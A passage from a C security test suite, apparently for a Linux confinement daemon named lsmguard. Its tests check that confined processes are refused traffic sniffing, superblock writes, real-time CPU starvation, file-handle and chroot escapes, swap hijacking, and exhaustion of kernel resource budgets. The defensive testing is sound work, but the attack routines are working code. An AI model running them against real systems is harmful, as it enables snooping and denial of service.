	struct a6_proc sniffer;
	int server, one = 1, r, sent;

	/* The peer of the other service: unconfined, not the attacker. */
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	server = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	VM_CHECK(bind(server, (struct sockaddr *)&sa, sizeof(sa)) == 0 && listen(server, 4) == 0);
	VM_CHECK(pipe(sniff_ready) == 0);
	VM_CHECK(a6_spawn(&sniffer, attacker, do_sniff, &a));
	close(sniff_ready[1]);
	if (!ready_wait(sniff_ready[0], 3000)) {
		close(sniff_ready[0]);
		r = a6_wait(&sniffer, 2000);
		close(server);
		return r;
	}
	close(sniff_ready[0]);
	sent = in_cgroup(A6_OTHER, do_send_mark, NULL);
	VM_CHECK(sent == 0);
	r = a6_wait(&sniffer, 5000);
	close(server);
	return r;
}

VM_TEST(a6_raw_sockets_read_another_policys_traffic, 254)
{
	a6_setup();
	for (size_t c = 0; c < 2; c++) {
		int r = sniff_round(attackers[c], 0, true);

		printf("# %s, root, AF_PACKET on lo: %s\n", attacker_names[c],
		       r == 0 ? "read the other service's bytes" : res(r));
		VM_CHECK(r != 0);
		r = sniff_round(attackers[c], 0, false);
		printf("# %s, root, AF_INET SOCK_RAW IPPROTO_TCP: %s\n", attacker_names[c],
		       r == 0 ? "read the other service's bytes" : res(r));
		VM_CHECK(r != 0);
	}
	{
		int r = sniff_round(A6, USER, true);

		printf("# uid 1000, AF_PACKET: %s\n", r == 0 ? "read" : res(r));
		VM_CHECK(r != 0);
	}
	/* Control: unconfined root reads them. */
	{
		int r = sniff_round(NULL, 0, true);

		printf("# unconfined, AF_PACKET: %s\n", r == 0 ? "read" : res(r));
		VM_CHECK(r == 0);
	}
}

/* ===================================================================================== */
/* 255: a mounted disk's superblock written through a read-only descriptor.                */
/* ===================================================================================== */

#define A6FS "/mnt/a6fs"

struct a6_fsuuid {
	__u32 fsu_len;
	__u32 fsu_flags;
	__u8 fsu_uuid[16];
};
struct a6_fsuuid_head { /* the kernel's struct fsuuid without its flexible array */
	__u32 fsu_len;
	__u32 fsu_flags;
};
#define A6_EXT4_IOC_GETFSUUID _IOR('f', 44, struct a6_fsuuid_head)
#define A6_EXT4_IOC_SETFSUUID _IOW('f', 44, struct a6_fsuuid_head)

enum sb_op { SB_LABEL, SB_UUID };

struct sb_arg {
	enum sb_op op;
	uid_t uid;
	const char *path;
};

static int do_superblock(const void *data)
{
	const struct sb_arg *a = data;
	char label[FSLABEL_MAX] = "";
	struct a6_fsuuid u = {.fsu_len = 16};
	int fd, r;

	if (drop_to(a->uid))
		return 200;
	fd = open(a->path, O_RDONLY);
	if (fd < 0)
		return 100 + errno;
	if (a->op == SB_LABEL) {
		if (ioctl(fd, FS_IOC_GETFSLABEL, label))
			return 120 + errno;
		r = ioctl(fd, FS_IOC_SETFSLABEL, label) ? errno : 0; /* the label it has */
	} else {
		if (ioctl(fd, A6_EXT4_IOC_GETFSUUID, &u))
			return 140 + errno;
		r = ioctl(fd, A6_EXT4_IOC_SETFSUUID, &u) ? errno : 0; /* the uuid it has */
	}
	close(fd);
	return r;
}

/* A program of 129 bytes (the RAM disk is small): exit(0). */
static bool tiny_program(const char *path)
{
	static const unsigned char code[] = {0xb8, 0x3c, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05};
	struct {
		Elf64_Ehdr eh;
		Elf64_Phdr ph;
		unsigned char code[sizeof(code)];
	} __attribute__((packed)) elf = {0};
	int fd;
	bool ok;

	memcpy(elf.eh.e_ident, ELFMAG, SELFMAG);
	elf.eh.e_ident[EI_CLASS] = ELFCLASS64;
	elf.eh.e_ident[EI_DATA] = ELFDATA2LSB;
	elf.eh.e_ident[EI_VERSION] = EV_CURRENT;
	elf.eh.e_type = ET_EXEC;
	elf.eh.e_machine = EM_X86_64;
	elf.eh.e_version = EV_CURRENT;
	elf.eh.e_entry = 0x400000 + sizeof(Elf64_Ehdr) + sizeof(Elf64_Phdr);
	elf.eh.e_phoff = sizeof(Elf64_Ehdr);
	elf.eh.e_ehsize = sizeof(Elf64_Ehdr);
	elf.eh.e_phentsize = sizeof(Elf64_Phdr);
	elf.eh.e_phnum = 1;
	elf.ph.p_type = PT_LOAD;
	elf.ph.p_flags = PF_R | PF_X;
	elf.ph.p_vaddr = elf.ph.p_paddr = 0x400000;
	elf.ph.p_filesz = elf.ph.p_memsz = sizeof(elf);
	elf.ph.p_align = 0x1000;
	memcpy(elf.code, code, sizeof(code));
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (fd < 0)
		return false;
	ok = write(fd, &elf, sizeof(elf)) == (ssize_t)sizeof(elf);
	return close(fd) == 0 && ok;
}

static bool a6fs_mount(void)
{
	if (access("/dev/ram0", F_OK) != 0 &&
	    system("insmod /lib/modules/brd.ko rd_nr=1 rd_size=1024") != 0)
		return false;
	for (int i = 0; i < 50 && access("/dev/ram0", F_OK) != 0; i++)
		usleep(20 * 1000);
	umount2(A6FS, MNT_DETACH);
	if (system("busybox mke2fs -L a6label /dev/ram0 >/dev/null 2>&1") != 0 &&
	    system("busybox mke2fs /dev/ram0 >/dev/null 2>&1") != 0) {
		printf("# mke2fs failed\n");
		return false;
	}
	mkdir("/mnt", 0755);
	mkdir(A6FS, 0755);
	if (mount("/dev/ram0", A6FS, "ext4", 0, NULL)) {
		printf("# mount: %s\n", strerror(errno));
		return false;
	}
	if (system("mkdir -p " A6FS "/deny && echo a6-disk-secret > " A6FS
		   "/deny/secret && echo pub > " A6FS "/pub") != 0)
		return false;
	return tiny_program(A6FS "/tool");
}

VM_TEST(a6_disk_superblock_through_a_read_only_descriptor, 255)
{
	a6_setup();
	if (!a6fs_mount()) {
		VM_FAIL("cannot make and mount the ext2 RAM disk");
		return;
	}
	for (size_t c = 0; c < 2; c++) {
		const char *paths[] = {A6FS, A6FS "/pub"};

		for (int p = 0; p < 2; p++) {
			struct sb_arg label = {SB_LABEL, 0, paths[p]}, uuid = {SB_UUID, 0, paths[p]};
			int r1 = in_cgroup(attackers[c], do_superblock, &label);
			int r2 = in_cgroup(attackers[c], do_superblock, &uuid);

			printf("# %s: %s opened read-only: FS_IOC_SETFSLABEL %s, "
			       "EXT4_IOC_SETFSUUID %s\n",
			       attacker_names[c], paths[p], res(r1), res(r2));
			VM_CHECK(r1 == EPERM);
			VM_CHECK(r2 == EPERM);
		}
	}
	{
		struct sb_arg label = {SB_LABEL, USER, A6FS "/pub"};
		int r = in_cgroup(A6, do_superblock, &label);

		printf("# uid 1000: FS_IOC_SETFSLABEL: %s\n", res(r));
		VM_CHECK(r == EPERM);
	}
	{
		struct sb_arg label = {SB_LABEL, 0, A6FS}, uuid = {SB_UUID, 0, A6FS};
		int r1 = in_cgroup(NULL, do_superblock, &label);
		int r2 = in_cgroup(NULL, do_superblock, &uuid);

		printf("# unconfined: FS_IOC_SETFSLABEL %s, EXT4_IOC_SETFSUUID %s\n", res(r1),
		       res(r2));
		VM_CHECK(r1 == 0);
	}
}

/* ===================================================================================== */
/* 256: the attacker's own real-time priority, against the daemon's CPU.                  */
/* ===================================================================================== */

static volatile int spin_stop;

static void *spin_thread(void *arg)
{
	struct sched_param sp = {.sched_priority = 99};
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET((int)(long)arg, &set);
	sched_setaffinity(0, sizeof(set), &set);
	if (sched_setscheduler(0, SCHED_FIFO, &sp))
		return (void *)(long)errno;
	while (!spin_stop)
		;
	return NULL;
}

static int do_rt_spin(const void *data)
{
	int seconds = *(const int *)data;
	struct sched_param sp = {.sched_priority = 99};
	pthread_t t[2];
	long err = 0;

	if (sched_setscheduler(0, SCHED_FIFO, &sp))
		return errno;
	sp.sched_priority = 0;
	sched_setscheduler(0, SCHED_OTHER, &sp);
	if (seconds == 0)
		return 0;
	alarm((unsigned)seconds + 5);
	for (long i = 0; i < 2; i++)
		pthread_create(&t[i], NULL, spin_thread, (void *)i);
	sleep((unsigned)seconds);
	spin_stop = 1;
	for (int i = 0; i < 2; i++) {
		void *rv;

		pthread_join(t[i], &rv);
		if (rv)
			err = (long)rv;
	}
	return (int)err;
}

static long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

VM_TEST(a6_own_realtime_priority_slows_the_daemon, 256)
{
	int zero = 0, secs = 6, r;
	struct a6_proc spinner;
	long t0, base, loaded;

	a6_setup();
	VM_TIMEOUT(60);
	r = in_cgroup(A6, do_rt_spin, &zero);
	printf("# enforce: sched_setscheduler(self, SCHED_FIFO, 99): %s\n", res(r));
	VM_CHECK(r == EPERM);
	r = in_cgroup(A6_AUDIT, do_rt_spin, &zero);
	printf("# audit: sched_setscheduler(self, SCHED_FIFO, 99): %s\n", res(r));
	if (r != 0)
		return;
	/* What it does to the daemon: a reload's time, alone and under two FIFO spinners. */
	t0 = now_ms();
	VM_CHECK(daemon_reload_wait());
	base = now_ms() - t0;
	VM_CHECK(a6_spawn(&spinner, A6, do_rt_spin, &secs));
	usleep(300 * 1000);
	t0 = now_ms();
	bool ok = daemon_reload_wait();
	loaded = now_ms() - t0;
	r = a6_wait(&spinner, 20000);
	printf("# a reload takes %ld ms alone, %ld ms (%s) under the confined task's SCHED_FIFO "
	       "spinners (spinners: %s)\n",
	       base, loaded, ok ? "done" : "not done within 5 s", res(r));
}

/* ===================================================================================== */
/* 257: the other policy's denied directory and program, by new routes.                    */
/* ===================================================================================== */

enum esc_op { ESC_HANDLE_EXEC, ESC_HANDLE_READ, ESC_CHROOT_EXEC, ESC_CHROOT_READ };

struct esc_arg {
	enum esc_op op;
	uid_t uid;
	const char *path;
	const char *root; /* chroot */
};

static int do_escape(const void *data)
{
	const struct esc_arg *a = data;
	union {
		struct file_handle fh;
		char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} h;
	int mount_id, mfd, fd, status;
	pid_t child;

	if (drop_to(a->uid))
		return 200;
	switch (a->op) {
	case ESC_HANDLE_EXEC:
	case ESC_HANDLE_READ:
		h.fh.handle_bytes = MAX_HANDLE_SZ;
		if (name_to_handle_at(AT_FDCWD, a->path, &h.fh, &mount_id, 0))
			return 120 + errno;
		mfd = open(A6FS, O_RDONLY | O_DIRECTORY);
		if (mfd < 0)
			return 140 + errno;
		/* The parent drops the dentries between the two steps. */
		if (write(sniff_ready[1], "h", 1) != 1 || read(reuse_ready[0], &status, 1) != 1)
			return 160;
		fd = open_by_handle_at(mfd, &h.fh, a->op == ESC_HANDLE_EXEC ? O_PATH : O_RDONLY);
		if (fd < 0)
			return errno;
		if (a->op == ESC_HANDLE_READ) {
			char buf[64] = "";

			return read(fd, buf, sizeof(buf)) > 0 && strstr(buf, "secret") ? 0 : 170;
		}
		child = fork();
		if (child == 0) {
			char *argv[] = {"tool", "true", NULL}, *envp[] = {NULL};

			syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
			_exit(100 + errno);
		}
		if (waitpid(child, &status, 0) != child)
			return 171;
		if (!WIFEXITED(status))
			return 172;
		return WEXITSTATUS(status) >= 100 ? WEXITSTATUS(status) - 100 : WEXITSTATUS(status) ? 173 : 0;
	case ESC_CHROOT_EXEC:
		if (chroot(a->root) || chdir("/"))
			return 180 + errno;
		child = fork();
		if (child == 0) {
			execl(a->path, "tool", "true", (char *)NULL);
			_exit(100 + errno);
		}
		if (waitpid(child, &status, 0) != child)
			return 171;
		if (!WIFEXITED(status))
			return 172;
		return WEXITSTATUS(status) >= 100 ? WEXITSTATUS(status) - 100 : WEXITSTATUS(status) ? 173 : 0;
	case ESC_CHROOT_READ:
		if (chroot(a->root) || chdir("/"))
			return 180 + errno;
		fd = open(a->path, O_RDONLY);
		return fd < 0 ? errno : 0;
	}
	return 201;
}

/* open_by_handle_at after the dentries were dropped, with the parent's help between steps. */
static int handle_round(const char *cgroup, enum esc_op op, const char *path)
{
	struct esc_arg a = {op, 0, path, NULL};
	struct a6_proc p;
	char c = 'g';
	int r;

	VM_CHECK(pipe(sniff_ready) == 0 && pipe(reuse_ready) == 0);
	VM_CHECK(a6_spawn(&p, cgroup, do_escape, &a));
	if (ready_wait(sniff_ready[0], 3000)) {
		sync();
		write_into("/proc/sys/vm/drop_caches", "2");
		VM_CHECK(write(reuse_ready[1], &c, 1) == 1);
	}
	r = a6_wait(&p, 5000);
	close(sniff_ready[0]);
	close(sniff_ready[1]);
	close(reuse_ready[0]);
	close(reuse_ready[1]);
	return r;
}

VM_TEST(a6_other_policy_denied_directory_and_program_by_new_routes, 257)
{
	a6_setup();
	if (access(A6FS "/tool", F_OK) != 0 && !a6fs_mount()) {
		VM_FAIL("cannot make and mount the ext2 RAM disk");
		return;
	}
	/* Plain routes: refused (the rules work). */
	VM_CHECK(try_exec(A6_OTHER, "/data/a6bin/tool") == EPERM);
	VM_CHECK(try_open(A6_OTHER, "/data/a6deny/secret", O_RDONLY) == EPERM);
	VM_CHECK(try_exec(A6_OTHER, A6FS "/tool") == EPERM);
	VM_CHECK(try_open(A6_OTHER, A6FS "/deny/secret", O_RDONLY) == EPERM);
	/* chroot: the absolute path the task asks for is not the file's path. */
	{
		struct esc_arg x = {ESC_CHROOT_EXEC, 0, "/a6bin/tool", "/data"};
		struct esc_arg rd = {ESC_CHROOT_READ, 0, "/a6deny/secret", "/data"};
		int r1 = in_cgroup(A6_OTHER, do_escape, &x), r2 = in_cgroup(A6_OTHER, do_escape, &rd);

		printf("# chroot(/data): exec /a6bin/tool %s, open /a6deny/secret %s\n", res(r1),
		       res(r2));
		VM_CHECK(r1 == EPERM && r2 == EPERM);
	}
	/* open_by_handle_at of the denied program (O_PATH, then execveat) and of the denied
	 * file, their dentries dropped between name_to_handle_at and the open. */
	{
		int r1 = handle_round(A6_OTHER, ESC_HANDLE_EXEC, A6FS "/tool");
		int r2 = handle_round(A6_OTHER, ESC_HANDLE_READ, A6FS "/deny/secret");
		int r3 = handle_round(NULL, ESC_HANDLE_EXEC, A6FS "/tool");

		printf("# open_by_handle_at, dentries dropped: O_PATH + execveat of the denied "
		       "program %s; read of the denied file %s; unconfined execveat %s\n",
		       res(r1), res(r2), res(r3));
		VM_CHECK(r1 == EPERM);
		VM_CHECK(r2 == EPERM);
		VM_CHECK(r3 == 0);
	}
	umount2(A6FS, MNT_DETACH);
}

/* ===================================================================================== */
/* 258: swap turned on in a file of the attacker's: every process's memory written there.  */
/* ===================================================================================== */

#define A6_SWAP A6FS "/swap"

struct swap_arg {
	uid_t uid;
	const char *path;
};

static int do_swapon(const void *data)
{
	const struct swap_arg *a = data;

	if (drop_to(a->uid))
		return 200;
	if (syscall(SYS_swapon, a->path, 0))
		return errno;
	syscall(SYS_swapoff, a->path);
	return 0;
}

VM_TEST(a6_swap_in_a_file_of_the_attackers, 258)
{
	a6_setup();
	if (!a6fs_mount()) {
		VM_FAIL("cannot make and mount the ext2 RAM disk");
		return;
	}
	VM_CHECK(system("busybox dd if=/dev/zero of=" A6_SWAP " bs=1024 count=512 2>/dev/null && "
			"chmod 600 " A6_SWAP " && busybox mkswap " A6_SWAP " >/dev/null 2>&1") == 0);
	for (size_t c = 0; c < 2; c++) {
		struct swap_arg a = {0, A6_SWAP};
		int r = in_cgroup(attackers[c], do_swapon, &a);

		printf("# %s: swapon(%s) (the host's memory, other services' secrets included, "
		       "paged out into the attacker's file): %s\n",
		       attacker_names[c], A6_SWAP, res(r));
		VM_CHECK(r == EPERM);
	}
	{
		struct swap_arg a = {USER, A6_SWAP};
		int r = in_cgroup(A6, do_swapon, &a);

		printf("# uid 1000: swapon: %s\n", res(r));
		VM_CHECK(r == EPERM);
	}
	{
		struct swap_arg a = {0, A6_SWAP};
		int r = in_cgroup(NULL, do_swapon, &a);

		printf("# unconfined: swapon: %s\n", res(r));
		VM_CHECK(r == 0);
	}
	umount2(A6FS, MNT_DETACH);
}

/* ===================================================================================== */
/* 259: a program under an [exec] deny rule moved out by link + unlink (rename is refused). */
/* ===================================================================================== */

enum name_op { NAME_LINK, NAME_UNLINK, NAME_RENAME };

struct name_arg {
	enum name_op op;
	uid_t uid;
	const char *a, *b;
};

static int do_name(const void *data)
{
	const struct name_arg *n = data;

	if (drop_to(n->uid))
		return 200;
	switch (n->op) {
	case NAME_LINK:
		return link(n->a, n->b) ? errno : 0;
	case NAME_UNLINK:
		return unlink(n->a) ? errno : 0;
	case NAME_RENAME:
		return rename(n->a, n->b) ? errno : 0;
	}
	return 201;
}

struct exec_as {
	uid_t uid;
	const char *path;
};

static int do_exec_as(const void *data)
{
	const struct exec_as *e = data;
	char *const argv[] = {"true", NULL}, *const envp[] = {NULL};
	int status;
	pid_t pid;

	if (drop_to(e->uid))
		return 200;
	pid = fork();
	if (pid == 0) {
		execve(e->path, argv, envp);
		_exit(100 + errno);
	}
	if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status))
		return 172;
	return WEXITSTATUS(status) >= 100 ? WEXITSTATUS(status) - 100
					  : WEXITSTATUS(status) ? 173 : 0;
}

VM_TEST(a6_exec_deny_rule_left_by_link_and_unlink, 259)
{
	const char *tool = "/data/a6bin/tool", *moved = "/data/a6user/tool";

	a6_setup();
	VM_CHECK(mkdir("/data/a6user", 0755) == 0 || errno == EEXIST);
	for (int u = 0; u < 2; u++) {
		uid_t uid = u ? USER : 0;
		struct name_arg ren = {NAME_RENAME, uid, tool, moved};
		struct name_arg lnk = {NAME_LINK, uid, tool, moved};
		struct name_arg unl = {NAME_UNLINK, uid, tool, NULL};
		struct exec_as at_tool = {uid, tool}, at_moved = {uid, moved};
		int r_ren, r_lnk, r_x2, r_unl, r_x1, r_orig;

		unlink(moved);
		VM_CHECK(system("rm -f /data/a6bin/tool && cp /bin/busybox /data/a6bin/tool") == 0);
		VM_CHECK(chown("/data/a6bin", uid, uid) == 0 && chown(tool, uid, uid) == 0);
		VM_CHECK(chown("/data/a6user", uid, uid) == 0);
		r_orig = in_cgroup(A6_OTHER, do_exec_as, &at_tool);
		r_ren = in_cgroup(A6_OTHER, do_name, &ren);	 /* closed: refused */
		r_lnk = in_cgroup(A6_OTHER, do_name, &lnk);	 /* a second name */
		r_x2 = in_cgroup(A6_OTHER, do_exec_as, &at_moved); /* decided at both names */
		r_unl = in_cgroup(A6_OTHER, do_name, &unl);	 /* the rule's name goes */
		r_x1 = in_cgroup(A6_OTHER, do_exec_as, &at_moved); /* one name left */
		printf("# uid %u under a6-other ([exec] deny = %s, default allow): exec %s; rename "
		       "out %s; link to %s %s; exec there %s; unlink %s %s; exec %s now %s\n",
		       (unsigned)uid, tool, res(r_orig), res(r_ren), moved, res(r_lnk), res(r_x2),
		       tool, res(r_unl), moved, r_x1 == 0 ? "RUNS" : res(r_x1));
		VM_CHECK(r_orig == EPERM && r_ren == EPERM);
		VM_CHECK(r_x2 == EPERM);
		VM_CHECK(r_x1 == EPERM);
		unlink(moved);
	}
	VM_CHECK(chown("/data/a6bin", 0, 0) == 0);
	VM_CHECK(system("rm -f /data/a6bin/tool && cp /bin/busybox /data/a6bin/tool") == 0);
}

/* ===================================================================================== */
/* 260: another policy's own pty refused to it, its owner record pushed out of the LRU.   */
/* ===================================================================================== */

static int pty_ready[2], pty_go[2];

/* The other service: makes a pty, then (after the parent's go) opens its slave. */
static int do_pty_owner(const void *data)
{
	char c;
	int m, s;

	(void)data;
	m = open("/dev/ptmx", O_RDWR | O_NOCTTY);
	if (m < 0 || grantpt(m) || unlockpt(m))
		return 120 + errno;
	if (write(pty_ready[1], "r", 1) != 1 || read(pty_go[0], &c, 1) != 1)
		return 160;
	s = open(ptsname(m), O_RDWR | O_NOCTTY);
	return s < 0 ? errno : 0;
}

static int do_pty_flood(const void *data)
{
	int n = *(const int *)data;

	for (int i = 0; i < n; i++) {
		int m = open("/dev/ptmx", O_RDWR | O_NOCTTY);

		if (m < 0)
			return errno;
		close(m);
	}
	return 0;
}

static int pty_round(const char *flooder, int n)
{
	struct a6_proc owner;
	int r;

	VM_CHECK(pipe(pty_ready) == 0 && pipe(pty_go) == 0);
	VM_CHECK(a6_spawn(&owner, A6_OTHER, do_pty_owner, NULL));
	if (ready_wait(pty_ready[0], 3000)) {
		if (flooder) {
			r = in_cgroup(flooder, do_pty_flood, &n);
			if (r)
				printf("#   flood: %s\n", res(r));
		}
		VM_CHECK(write(pty_go[1], "g", 1) == 1);
	}
	r = a6_wait(&owner, 5000);
	for (int i = 0; i < 2; i++) {
		close(pty_ready[i]);
		close(pty_go[i]);
	}
	return r;
}

VM_TEST(a6_other_policys_pty_refused_after_a_pty_flood, 260)
{
	int r;

	a6_setup();
	VM_TIMEOUT(120);
	if (access("/dev/pts/ptmx", F_OK) != 0)
		VM_CHECK(system("mkdir -p /dev/pts && mount -t devpts -o ptmxmode=0666,mode=0620 "
				"devpts /dev/pts; [ -e /dev/ptmx ] || ln -s pts/ptmx /dev/ptmx") == 0);
	r = pty_round(NULL, 0);
	printf("# another policy opens the slave of its own new pty: %s\n", res(r));
	VM_CHECK(r == 0);
	for (size_t c = 0; c < 2; c++) {
		r = pty_round(attackers[c], 9000);
		printf("# %s: after the attacker opened and closed /dev/ptmx 9000 times: the other "
		       "policy's own slave: %s\n",
		       attacker_names[c], res(r));
		VM_CHECK(r == 0);
	}
}

/* ===================================================================================== */
/* 261: root's per-user kernel budgets used up (epoll watches, inotify instances), which    */
/* lsmguard's next start, PID 1 and every root daemon share with a confined root.          */
/* ===================================================================================== */

static int budget_ready[2];

struct budget_report {
	long watches;	    /* epoll watches the attacker holds */
	int watch_errno;    /* what stopped it (ENOSPC: the budget is spent) */
	int inotify;	    /* inotify instances it holds */
	int inotify_errno;  /* EMFILE: the per-user limit reached */
	int mntns;	    /* mount namespaces it holds */
	int mntns_errno;    /* ENOSPC: user.max_mnt_namespaces reached for uid 0 */
};

static int do_budget(const void *data)
{
	struct rlimit rl = {1 << 20, 1 << 20};
	struct budget_report rep = {0};
	int base, n = 0, *fds;

	(void)data;
	if (setrlimit(RLIMIT_NOFILE, &rl)) {
		rl.rlim_cur = rl.rlim_max = 65536;
		if (setrlimit(RLIMIT_NOFILE, &rl))
			return 1000 + errno;
	}
	base = eventfd(0, EFD_CLOEXEC);
	fds = calloc(200000, sizeof(int));
	if (base < 0 || !fds)
		return 201;
	for (; n < 200000; n++) {
		fds[n] = dup(base);
		if (fds[n] < 0)
			break;
	}
	/* The same descriptors in as many epoll instances as it takes. */
	for (int round = 0; round < 64 && !rep.watch_errno; round++) {
		int ep = epoll_create1(EPOLL_CLOEXEC);

		if (ep < 0) {
			rep.watch_errno = errno;
			break;
		}
		for (int i = 0; i < n; i++) {
			struct epoll_event ev = {.events = EPOLLIN};

			if (epoll_ctl(ep, EPOLL_CTL_ADD, fds[i], &ev)) {
				rep.watch_errno = errno;
				break;
			}
			rep.watches++;
		}
	}
	for (;;) {
		if (inotify_init1(IN_CLOEXEC) < 0) {
			rep.inotify_errno = errno;
			break;
		}
		if (++rep.inotify > 100000)
			break;
	}
	/* Mount namespaces, each kept by a descriptor (a child does it: its own namespace
	 * changes). */
	{
		int p[2];
		pid_t k = -1;

		if (pipe(p) == 0 && (k = fork()) == 0) {
			int count = 0, e = 0;

			prctl(PR_SET_PDEATHSIG, SIGKILL); /* it holds the epoll files too */

			for (; count < 200000; count++) {
				if (unshare(CLONE_NEWNS)) {
					e = errno;
					break;
				}
				if (open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC) < 0) {
					e = 1000 + errno;
					break;
				}
			}
			if (write(p[1], &count, sizeof(count)) < 0 || write(p[1], &e, sizeof(e)) < 0)
				_exit(1);
			for (;;)
				pause();
		} else if (k > 0) {
			if (read(p[0], &rep.mntns, sizeof(int)) != sizeof(int) ||
			    read(p[0], &rep.mntns_errno, sizeof(int)) != sizeof(int))
				rep.mntns = -1;
		}
	}
	if (write(budget_ready[1], &rep, sizeof(rep)) != sizeof(rep))
		return 202;
	/* Then it takes every watch another root process gives back (a daemon that exits). */
	for (int ep = epoll_create1(EPOLL_CLOEXEC), i = 0;;) {
		struct epoll_event ev = {.events = EPOLLIN};

		if (i == n) {
			ep = epoll_create1(EPOLL_CLOEXEC);
			i = 0;
		}
		if (epoll_ctl(ep, EPOLL_CTL_ADD, fds[i], &ev) == 0)
			i++;
		else
			usleep(1000);
	}
}

/* Start `lsmguard run` apart from the suite's log; 0 when it printed its ready line. */
static int start_test_daemon(char *err, size_t size)
{
	int out = open("/run/a6-daemon.log", O_RDWR | O_CREAT | O_TRUNC, 0644), status = -1;
	long end = now_ms() + 15000;
	pid_t pid;

	pid = fork();
	if (pid == 0) {
		dup2(out, 1);
		dup2(out, 2);
		execl(LSMGUARD, "lsmguard", "run", "--policy-dir", POLICY_DIR, (char *)NULL);
		_exit(127);
	}
	while (now_ms() < end) {
		char buf[4096] = "";

		if (waitpid(pid, &status, WNOHANG) == pid) {
			ssize_t n = pread(out, buf, sizeof(buf) - 1, 0);

			snprintf(err, size, "%.*s", n > 0 ? (int)n : 0, buf);
			close(out);
			return WIFEXITED(status) ? 100 + WEXITSTATUS(status) : 99;
		}
		if (pread(out, buf, sizeof(buf) - 1, 0) > 0 && strstr(buf, "\"event\":\"ready\"")) {
			kill(pid, SIGTERM);
			waitpid(pid, NULL, 0);
			close(out);
			return 0;
		}
		usleep(50 * 1000);
	}
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	close(out);
	return 98;
}

/* Wait (10 s at most) until a hog's budget is given back: freed after its exit. */
static void budget_given_back(void)
{
	for (int i = 0; i < 200; i++) {
		struct epoll_event ev = {.events = EPOLLIN};
		int e = epoll_create1(EPOLL_CLOEXEC), f = eventfd(0, EFD_CLOEXEC);
		int ok = epoll_ctl(e, EPOLL_CTL_ADD, f, &ev) == 0;
		int in = inotify_init1(IN_CLOEXEC);

		close(e);
		close(f);
		if (in >= 0)
			close(in);
		if (ok && in >= 0)
			return;
		usleep(50 * 1000);
	}
}

VM_TEST(a6_roots_kernel_budgets_used_up_by_a_confined_root, 261)
{
	a6_setup();
	VM_TIMEOUT(120);
	printf("# fs.epoll.max_user_watches %d, fs.inotify.max_user_instances %d\n",
	       read_int_file("/proc/sys/fs/epoll/max_user_watches"),
	       read_int_file("/proc/sys/fs/inotify/max_user_instances"));
	for (size_t c = 0; c < 2; c++) {
		struct budget_report rep = {0};
		struct a6_proc hog;
		struct epoll_event ev = {.events = EPOLLIN};
		char err[4096] = "";
		int ep, efd, add, ino, started;
		pid_t daemon;

		budget_given_back();
		VM_CHECK(pipe(budget_ready) == 0);
		VM_CHECK(a6_spawn(&hog, attackers[c], do_budget, NULL));
		{
			struct pollfd pfd = {.fd = budget_ready[0], .events = POLLIN};

			if (poll(&pfd, 1, 60000) != 1 ||
			    read(budget_ready[0], &rep, sizeof(rep)) != sizeof(rep)) {
				VM_FAIL("the attacker reported nothing");
				a6_wait(&hog, 100);
				continue;
			}
		}
		close(budget_ready[0]);
		close(budget_ready[1]);
		printf("# %s: the confined root holds %ld epoll watches (stopped by %s) and %d "
		       "inotify instances (stopped by %s)\n",
		       attacker_names[c], rep.watches, res(rep.watch_errno), rep.inotify,
		       res(rep.inotify_errno));
		/* Any other root process now: PID 1, journald, an administrator, lsmguard. */
		ep = epoll_create1(EPOLL_CLOEXEC);
		efd = eventfd(0, EFD_CLOEXEC);
		add = epoll_ctl(ep, EPOLL_CTL_ADD, efd, &ev) ? errno : 0;
		ino = inotify_init1(IN_CLOEXEC);
		{
			int ino_errno = ino < 0 ? errno : 0;
			pid_t k = fork();
			int status = 0;

			if (k == 0)
				_exit(unshare(CLONE_NEWNS) ? errno : 0);
			waitpid(k, &status, 0);
			printf("# %s: the confined root holds %d mount namespaces (stopped by %s); an "
			       "unconfined root's unshare(CLONE_NEWNS) (systemd's PrivateTmp=, "
			       "ProtectSystem=): %s\n",
			       attacker_names[c], rep.mntns, res(rep.mntns_errno),
			       res(WEXITSTATUS(status)));
			VM_CHECK(WIFEXITED(status) && WEXITSTATUS(status) == 0);
			printf("# %s: an unconfined root's epoll_ctl(ADD): %s; inotify_init1: %s\n",
			       attacker_names[c], res(add), ino < 0 ? res(ino_errno) : "success");
		}
		VM_CHECK(add == 0);
		VM_CHECK(ino >= 0);
		close(ep);
		close(efd);
		if (ino >= 0)
			close(ino);
		/* The administrator restarts lsmguard (an upgrade, a crash, systemctl restart). */
		daemon = daemon_pid();
		if (daemon > 1) {
			kill(daemon, SIGTERM);
			wait_exit(daemon, 10000);
		}
		started = start_test_daemon(err, sizeof(err));
		printf("# %s: lsmguard run while the budget is spent: %s\n", attacker_names[c],
		       started == 0 ? "ready" : "did not start");
		if (started) {
			char *nl;

			for (char *line = err; *line; line = nl + 1) {
				nl = strchr(line, '\n');
				if (!nl)
					break;
				if (strstr(line, "error") || strstr(line, "fatal") ||
				    strstr(line, "epoll") || strstr(line, "No space"))
					printf("#   %.*s\n", (int)(nl - line) > 200 ? 200 : (int)(nl - line),
					       line);
			}
		}
		VM_CHECK(started == 0);
		a6_wait(&hog, 100);
		budget_given_back();
		/* The suite's own daemon again. */
		if (daemon_pid() < 0 || kill(daemon_pid(), 0) != 0)
			VM_CHECK(daemon_start() > 0);
	}
}

/* ===================================================================================== */
/* 262: host-wide budgets held by a confined root: every pty, every AIO context.           */
/* ===================================================================================== */

static int global_ready[2];

struct global_report {
	int ptys, pty_errno;
	long aio, aio_errno;
};

static int do_global_hog(const void *data)
{
	struct rlimit rl = {1 << 16, 1 << 16};
	struct global_report rep = {0};

	(void)data;
	setrlimit(RLIMIT_NOFILE, &rl);
	for (;;) {
		if (open("/dev/ptmx", O_RDWR | O_NOCTTY) < 0) {
			rep.pty_errno = errno;
			break;
		}
		rep.ptys++;
	}
